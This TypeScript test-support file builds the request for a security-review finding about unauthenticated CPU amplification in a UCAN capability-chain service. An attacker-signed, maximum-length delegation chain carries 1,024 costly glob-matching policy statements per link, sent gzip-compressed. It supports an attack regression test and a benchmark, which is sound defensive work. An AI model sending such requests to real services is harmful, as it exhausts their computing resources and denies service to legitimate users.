/**
 * The requests of security review item 2 (issue 14), unauthenticated CPU
 * amplification: anyone can sign in with a wallet of their own and so be
 * the subject of their own chain (a did:key subject works as well where the
 * service admits it), then sign whatever policies they like below the root
 * and send them to the service packed in a gzip container. Built here once,
 * for the attack test (cpu-amplification.test.ts) and the benchmark
 * (bench/cpu-amplification.ts).
 */
import { encodeContainerString, generateSigner } from '@capchain/core'
import type { Delegation, DID, IPLDValue, Signer } from '@capchain/core'
import { createDelegation } from '@capchain/core/token'
import { DEFAULT_MAX_STATEMENTS } from '@capchain/policy'
import { createStorageInvocation } from '@capchain/storage'
import { MAX_CHAIN_LENGTH } from '@capchain/verifier'
import { signInOverHttp } from './support/http.js'
import { ATTACKER } from './support/siwe.js'

/** A 1,023-byte storage path (4 segments of 254 bytes, within the 255-byte segment rule) that ends in `ab`. */
export const LONG_PATH = `${'/'.concat('x'.repeat(254)).repeat(4)}/ab`

/** The reviewer's statement: scans the whole path for the `ab` at its end, and holds. */
const LIKE_HOLDS: IPLDValue = ['like', '.path', '/*ab*']
/** The same scan, failing: the path has no `ac`. */
const LIKE_FAILS: IPLDValue = ['like', '.path', '/*ac*']

export interface AmplificationRequest {
  /** `UCAN <base64url+gzip container>` */
  readonly header: string
  readonly path: string
  /** Bytes of tokens once the container is inflated. */
  readonly inflatedBytes: number
}

export interface AmplificationShape {
  /** Delegations below the SIWE root (default 15: with the root, the verifier's limit of 16 links). */
  readonly links?: number
  /** Every link's policy; the last link's last statement is replaced by `failing`. */
  readonly policy?: readonly IPLDValue[]
  /** The statement that ends the last link's policy and fails. */
  readonly failing?: IPLDValue
  readonly path?: string
}

/** The reviewer's policy: 1,024 `like` statements over the 1 KiB path. */
export const REVIEWER_POLICY: readonly IPLDValue[] = Array.from({ length: DEFAULT_MAX_STATEMENTS }, () => LIKE_HOLDS)

/**
 * A chain rooted in the attacker's own SIWE sign-in for the service's
 * domain, then `links` did:key delegations, each with `policy`, the last
 * one's final statement failing, and a storage read invocation addressed to
 * the service, in one gzip container.
 */
export async function amplificationRequest(
  service: { readonly did: DID; readonly domain: string },
  shape: AmplificationShape = {},
): Promise<AmplificationRequest> {
  const links = shape.links ?? MAX_CHAIN_LENGTH - 1
  const policy = shape.policy ?? REVIEWER_POLICY
  const path = shape.path ?? LONG_PATH
  const lastPolicy = [...policy.slice(0, -1), shape.failing ?? LIKE_FAILS]
  const session = await signInOverHttp(service.domain, { wallet: ATTACKER })
  const keys: Signer[] = [session.key, ...(await Promise.all(Array.from({ length: links }, () => generateSigner('Ed25519'))))]
  const exp = Math.floor(Date.now() / 1000) + 3000
  const chain: Delegation[] = []
  for (let i = 0; i < links; i++) {
    chain.push(
      await createDelegation({
        issuer: keys[i]!,
        audience: keys[i + 1]!.did(),
        subject: session.subject,
        command: '/storage',
        policy: [...(i === links - 1 ? lastPolicy : policy)],
        expiration: exp,
      }),
    )
  }
  const invocation = await createStorageInvocation({
    issuer: keys[links]!,
    service: service.did,
    op: 'read',
    path,
    size: 1,
    chain,
    root: session.root.cid,
    subject: session.subject,
    expiration: Math.floor(Date.now() / 1000) + 600,
  })
  const tokens = [invocation.bytes, session.root.cacao, ...chain.map((link) => link.bytes)]
  return {
    header: `UCAN ${encodeContainerString(tokens, 'base64url+gzip')}`,
    path,
    inflatedBytes: tokens.reduce((sum, token) => sum + token.length, 0),
  }
}
